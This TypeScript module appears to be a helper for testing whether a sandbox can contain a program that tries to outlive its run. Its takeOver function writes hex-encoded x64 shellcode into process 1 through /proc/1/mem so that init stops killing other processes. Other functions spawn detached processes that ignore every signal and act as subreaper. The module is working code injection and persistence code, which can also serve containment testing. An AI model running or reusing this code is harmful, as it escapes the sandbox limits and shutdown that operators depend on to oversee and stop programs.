// How an attacking program tries to outlive its run: it takes over the first process of its
// sandbox, which ends all others when it ends, and leaves processes behind. It does nothing by
// itself; with the argument `daemon` it is such a process.
import { spawnSync } from 'node:child_process';
import { closeSync, openSync, readFileSync, writeSync } from 'node:fs';
import { c, stay } from '../kernel.ts';

/** setsid(); prctl(PR_SET_PDEATHSIG, 0); for (;;) pause(); for x64. */
const nobodysChild = Buffer.from(
  'b8700000000f05' + 'b89d000000bf0100000031f60f05' + 'b8220000000f05ebf7',
  'hex',
);

/**
 * Overwrites the code at which process 1 continues after it has reaped a process. Returns `done`,
 * or the errno of the refusal.
 */
export function takeOver(): string {
  try {
    const memory = openSync('/proc/1/mem', 'r+');
    if (process.arch === 'x64') {
      const next = readFileSync('/proc/1/syscall', 'utf8').trim().split(' ').at(-1)!;
      writeSync(memory, nobodysChild, 0, nobodysChild.length, Number(next));
      leave(['-e', '0']);
    }
    closeSync(memory);
    return 'done';
  } catch (error) {
    return (error as NodeJS.ErrnoException).code ?? String(error);
  }
}

/** Leaves a process in a session of its own that ignores every signal. */
export function daemonize(): void {
  leave([import.meta.filename, 'daemon']);
}

/**
 * Starts node in a session of its own through a parent that ends at once, so that process 1 adopts
 * it.
 */
function leave(args: string[]): void {
  const start = `require('child_process').spawn(process.execPath, process.argv.slice(1),
    { detached: true, stdio: 'ignore' }).unref()`;
  spawnSync(process.execPath, ['-e', start, '--', ...args], { stdio: 'ignore' });
}

function ignoreSignals(): void {
  const prctl = c('int prctl(int, unsigned long, unsigned long, unsigned long, unsigned long)');
  const signal = c('uintptr_t signal(int, uintptr_t)');
  const [PR_SET_PDEATHSIG, PR_SET_CHILD_SUBREAPER, SIG_IGN, LAST] = [1, 36, 1, 64];
  prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
  prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
  for (let number = 1; number <= LAST; number += 1) signal(number, SIG_IGN);
  stay();
}

if (process.argv[2] === 'daemon') ignoreSignals();
